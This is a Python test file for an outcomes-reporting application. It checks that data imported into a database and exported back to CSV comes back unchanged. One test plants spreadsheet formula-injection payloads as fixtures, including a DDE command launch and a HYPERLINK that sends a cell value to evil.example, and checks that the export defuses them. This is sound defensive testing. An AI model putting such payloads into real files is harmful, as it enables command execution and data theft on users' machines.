"""The store loses nothing: import → export → load gives back the same framework, field for field.

Given the example dataset, when it is imported into the database (SQLite or PostgreSQL) and exported
to a folder, then loading both folders gives equal frameworks: series, observations (status, notes,
missing reasons), comparators, published statements, risks, narrative, summary and officers.
"""

from __future__ import annotations

import csv
import dataclasses
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from outcomes.sources import load_dataset
from outcomes_launcher import main
from outcomes_web import adapter
from outcomes_web.store import models as m

pytestmark = pytest.mark.django_db(databases="__all__")


def plain(x: Any, *, skip: tuple[str, ...] = ("origin",)) -> Any:
    """A dataclass tree as dicts and lists, leaving out where things were read from."""
    if dataclasses.is_dataclass(x) and not isinstance(x, type):
        return {f.name: plain(getattr(x, f.name), skip=skip) for f in dataclasses.fields(x) if f.name not in skip}
    if isinstance(x, list | tuple):
        return [plain(i, skip=skip) for i in x]
    if isinstance(x, dict):
        return {k: plain(v, skip=skip) for k, v in x.items()}
    return x


def differences(a: Any, b: Any, path: str = "") -> list[str]:
    if type(a) is not type(b):
        return [f"{path}: {a!r} != {b!r}"]
    if isinstance(a, dict):
        out = []
        for k in list(a) + [k for k in b if k not in a]:
            out += differences(a.get(k), b.get(k), f"{path}.{k}")
        return out
    if isinstance(a, list):
        out = [f"{path}: {len(a)} items != {len(b)}"] if len(a) != len(b) else []
        for i, (x, y) in enumerate(zip(a, b, strict=False)):
            out += differences(x, y, f"{path}[{i}]")
        return out
    return [] if a == b else [f"{path}: {a!r} != {b!r}"]


def test_import_export_round_trip_loses_nothing(db_alias, example_path, tmp_path):
    runner = CliRunner()
    result = runner.invoke(main, ["import", str(example_path)])
    assert result.exit_code == 0, result.output
    assert "Imported safe (Safe) for Q4 2017-18" in result.output and "revision 2" in result.output
    out = tmp_path / "exported"
    result = runner.invoke(main, ["export", str(out), "--outcome", "safe", "--period", "Q4 17-18"])
    assert result.exit_code == 0, result.output

    original, exported = load_dataset(example_path), load_dataset(out)
    assert differences(plain(original), plain(exported)) == []
    # and, spelled out, the parts the issue names:
    s0, s1 = original.series_by_id(), exported.series_by_id()
    assert list(s0) == list(s1)
    for sid, s in s0.items():
        t = s1[sid]
        assert [(o.period, o.value, o.status, o.note, o.missing_reason, o.source) for o in s.observations] == \
            [(o.period, o.value, o.status, o.note, o.missing_reason, o.source) for o in t.observations]
        assert s.comparators == t.comparators and s.published == t.published
        assert s.lead_officers == t.lead_officers and s.breaks == t.breaks
    assert plain(original.risks) == plain(exported.risks)
    o0, o1 = original.outcomes[0], exported.outcomes[0]
    assert o0.published_summary == o1.published_summary
    assert (o0.sponsor, o0.contacts, o0.lead_officers) == (o1.sponsor, o1.contacts, o1.lead_officers)
    assert [plain(i.narrative) for i in o0.indicators] == [plain(i.narrative) for i in o1.indicators]
    assert (original.report, original.settings, original.areas) == (exported.report, exported.settings, exported.areas)


FORMULA_TITLE = "=cmd|' /C calc'!A0"
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
LITERAL_NOTE = "'=already quoted by someone"


def _with_formula_like_text(example_copy: Path) -> None:
    """A risk title and notes a spreadsheet would run, one value that starts with the apostrophe itself,
    and a negative number (a real -3 must stay a number)."""
    risks = example_copy / "risks.csv"
    rows = risks.read_text(encoding="utf-8").splitlines()
    head = rows[0].split(",")
    first = rows[1].split(",")
    first[head.index("title")] = '"' + FORMULA_TITLE.replace('"', '""') + '"'
    rows[1] = ",".join(first)
    risks.write_text("\n".join(rows) + "\n", encoding="utf-8")
    obs = example_copy / "observations.csv"
    rows = obs.read_text(encoding="utf-8").splitlines()
    rows[1] = rows[1][: -len(",,")] + ',"' + FORMULA_NOTE.replace('"', '""') + '",'
    rows[2] = rows[2][: -len(",,")] + ",''=already quoted by someone,"  # a note that starts with '=
    rows[3] = rows[3][: -len(",,")] + ",@SUM(1+1),"
    rows[4] = rows[4][: -len(",,")] + ",-3 fewer than last year,"
    obs.write_text("\n".join(rows) + "\n", encoding="utf-8")


def test_export_neutralises_formula_like_text_and_the_round_trip_keeps_it(db_alias, example_copy, tmp_path):
    # Given a dataset whose risk title and notes start with '=' and '@', one note that starts with an
    # apostrophe already, and figures (one negative)
    _with_formula_like_text(example_copy)
    obs = example_copy / "observations.csv"
    obs.write_text(obs.read_text(encoding="utf-8").replace("child-protection,E10000009,2012-13,53.8,",
                                                           "child-protection,E10000009,2012-13,-3,", 1),
                   encoding="utf-8")
    original = load_dataset(example_copy)
    assert original.risks[0].title == FORMULA_TITLE
    runner = CliRunner()
    assert runner.invoke(main, ["import", str(example_copy)]).exit_code == 0
    out = tmp_path / "exported"
    # When it is exported as a dataset folder
    result = runner.invoke(main, ["export", str(out), "--outcome", "safe", "--period", "Q4 2017-18"])
    assert result.exit_code == 0, result.output
    # Then no cell of the CSV files starts with a formula character, except a plain number
    import csv

    for name in ("observations.csv", "risks.csv"):
        with (out / name).open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    assert not cell.startswith("-") or float(cell) < 0, (name, cell)
    text = (out / "risks.csv").read_text(encoding="utf-8")
    assert "'=cmd|" in text
    exported_obs = (out / "observations.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in exported_obs and "''=already quoted" in exported_obs and "'@SUM" in exported_obs
    assert ",-3," in exported_obs and "'-3 fewer" in exported_obs
    # and loading the export gives back exactly what was imported
    exported = load_dataset(out)
    assert differences(plain(original), plain(exported)) == []
    assert exported.risks[0].title == FORMULA_TITLE
    notes = [o.note for o in exported.series_by_id()["child-protection"].observations]
    assert notes[:4] == [FORMULA_NOTE, LITERAL_NOTE, "@SUM(1+1)", "-3 fewer than last year"]
    assert exported.series_by_id()["child-protection"].observations[0].value == -3


def test_rebuilt_framework_equals_the_original_including_origins(db_alias, example_path):
    dataset = adapter.load_dataset(example_path)
    stored = adapter.store_framework(dataset)
    rebuilt = adapter.snapshot_framework(stored.snapshots)
    assert rebuilt == dataset.framework


def test_reimport_archives_the_old_snapshot_as_a_revision(db_alias, example_path):
    before = m.Snapshot.objects.get(outcome_key="safe", reporting_period__label="Q4 2017-18",
                                    archived_on__isnull=True)
    result = adapter.store_framework(adapter.load_dataset(example_path))
    (new,) = result.snapshots
    before.refresh_from_db()
    assert before.archived_on is not None and "Superseded by import" in before.archived_reason
    assert new.supersedes_id == before.pk and new.revision == before.revision + 1
    assert new.content_hash == before.content_hash  # same data, same hash
    assert m.Snapshot.objects.filter(pk=before.pk).exists()  # archived, not deleted
    assert m.Observation.objects.filter(series__snapshot=before).count() == 82
    record = new.import_record
    assert record.raw_framework["organisation"] == "Dorset County Council"  # the raw source kept for audit


def test_several_outcomes_in_one_framework_round_trip(db_alias, example_path, second_path, tmp_path):
    """Two outcomes and a risk that names no outcome: stored per outcome, exported back as one framework."""
    safe, prosperous = load_dataset(example_path), load_dataset(second_path)
    from outcomes.model import Period

    period = Period.parse("Q2 2018-19")
    both = replace(safe, reporting_period=period, outcomes=[*safe.outcomes, *prosperous.outcomes],
                   risks=[*safe.risks, *prosperous.risks], areas={**safe.areas, **prosperous.areas})
    result = adapter.store_framework(both)
    assert [s.outcome_key for s in result.snapshots] == ["safe", "prosperous"]
    # unlinked risks that name the outcome stay with it; nothing is lost or doubled on the way out
    out = tmp_path / "both"
    assert CliRunner().invoke(main, ["export", str(out), "--period", "Q2 2018-19"]).exit_code == 0
    assert differences(plain(both), plain(load_dataset(out))) == []


def test_import_of_a_broken_dataset_writes_nothing(db_alias, example_copy):
    (Path(example_copy) / "observations.csv").write_text(
        "series,area,period,value\nchild-protection,E10000009,Q9 2017-18,abc\nnope,E10000009,2017-18,1\n",
        encoding="utf-8")
    before = (m.Snapshot.objects.count(), m.ImportRecord.objects.count(), m.Observation.objects.count())
    result = CliRunner().invoke(main, ["import", str(example_copy)])
    assert result.exit_code == 2
    output = result.output  # click 8.2: stdout and stderr together
    assert "Nothing was written" in output
    assert "observations.csv, row 2 [period]" in output and "'nope' is not a series" in output
    assert (m.Snapshot.objects.count(), m.ImportRecord.objects.count(), m.Observation.objects.count()) == before


def test_import_of_an_outcome_id_another_organisation_holds_is_refused(db_alias, example_path, example_copy):
    """The second council's 'safe' would otherwise archive the first council's published 'safe'."""
    assert CliRunner().invoke(main, ["import", str(example_path)]).exit_code == 0
    yaml = Path(example_copy) / "framework.yaml"
    yaml.write_text(yaml.read_text(encoding="utf-8").replace("organisation: Dorset", "organisation: Somerset", 1),
                    encoding="utf-8")
    before = (m.Snapshot.objects.count(), m.ImportRecord.objects.count(), m.Observation.objects.count())
    result = CliRunner().invoke(main, ["import", str(example_copy)])
    assert result.exit_code == 2, result.output
    assert "1 problem to fix. Nothing was written." in result.output
    assert "Outcome 'safe': this id is already used by Dorset" in result.output
    assert "for example 'safe-somerset-county-council'" in result.output and "Traceback" not in result.output
    assert (m.Snapshot.objects.count(), m.ImportRecord.objects.count(), m.Observation.objects.count()) == before
    kept = m.Snapshot.objects.filter(outcome_key="safe", archived_on__isnull=True)
    assert kept.exists() and {s.organisation for s in kept} == {"Dorset County Council"}


def test_import_of_a_file_with_thousands_of_problems_prints_a_count_by_kind_and_lists_them(db_alias, example_copy,
                                                                                           tmp_path):
    obs = Path(example_copy) / "observations.csv"
    rows = [f"nope{n},E10000009,2017-18,1" for n in range(5000)]
    obs.write_text("series,area,period,value\n" + "\n".join(rows) + "\n", encoding="utf-8")
    listing = tmp_path / "problems.csv"
    before = m.Snapshot.objects.count()
    result = CliRunner().invoke(main, ["import", str(example_copy), "--problems", str(listing)])
    assert result.exit_code == 2 and "Nothing was written" in result.output
    assert len(result.output.splitlines()) < 40, len(result.output.splitlines())
    assert "5000 × observations.csv: '…' is not a series in framework.yaml." in result.output
    assert "e.g. observations.csv, row 2 [series]: 'nope0' is not a series" in result.output
    assert f"Every problem is listed in {listing}" in result.output
    with open(listing, encoding="utf-8-sig", newline="") as fh:
        written = list(csv.DictReader(fh))
    assert sum(r["kind"] == "observations.csv: '…' is not a series in framework.yaml." for r in written) == 5000
    assert {(r["location"], r["field"]) for r in written} >= {("row 2", "series"), ("row 5001", "series")}
    assert m.Snapshot.objects.count() == before


def test_export_refuses_a_folder_that_is_not_a_dataset(db_alias, tmp_path):
    precious = tmp_path / "documents"
    precious.mkdir()
    (precious / "letter.txt").write_text("keep me", encoding="utf-8")
    result = CliRunner().invoke(main, ["export", str(precious)])
    assert result.exit_code == 2 and "Will not export into" in result.output
    assert (precious / "letter.txt").read_text(encoding="utf-8") == "keep me"


@pytest.mark.parametrize(("args", "message"), [
    (["--outcome", "nowhere"], "'nowhere' is not an outcome stored for that period"),
    (["--period", "Q1 2001-02"], "No outcome is stored for Q1 2001-02"),
    (["--period", "Q7"], "is not a period I recognise"),
])
def test_export_explains_what_it_cannot_find(db_alias, tmp_path, args, message):
    result = CliRunner().invoke(main, ["export", str(tmp_path / "x"), *args])
    assert result.exit_code == 2 and message in result.output


def test_pages_follow_a_reimport_with_changed_data(client, db_alias, example_path):
    """The page cache is keyed by content hash and revision, so new data shows at once."""
    assert "58.5 per 10,000" in client.get("/outcomes/safe/indicators/child-protection/").content.decode()
    dataset = adapter.load_dataset(example_path)
    series = dataset.framework.series_by_id()["child-protection"]
    series.observations[-1].value = 31.0
    adapter.store_framework(dataset)
    html = client.get("/outcomes/safe/indicators/child-protection/").content.decode()
    assert "31.0 per 10,000" in html  # the series keeps one decimal place, as everywhere else
